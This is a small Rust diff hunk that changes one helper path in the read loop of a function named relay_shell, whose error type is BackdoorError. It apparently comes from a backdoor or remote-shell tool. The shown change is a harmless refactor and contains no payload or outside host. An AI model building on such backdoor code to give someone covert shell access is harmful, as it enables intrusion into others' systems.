@@ -480,7 +480,7 @@ fn relay_shell(
         match conn.stream.read(&mut chunk) {
             Ok(0) => break Err(BackdoorError::Closed),
             Ok(n) => buf.extend_from_slice(&chunk[..n]),
-            Err(e) if crate::try_again(&e) => {}
+            Err(e) if crate::wire::try_again(&e) => {}
             Err(e) => break Err(BackdoorError::Io(e)),
         }
     };
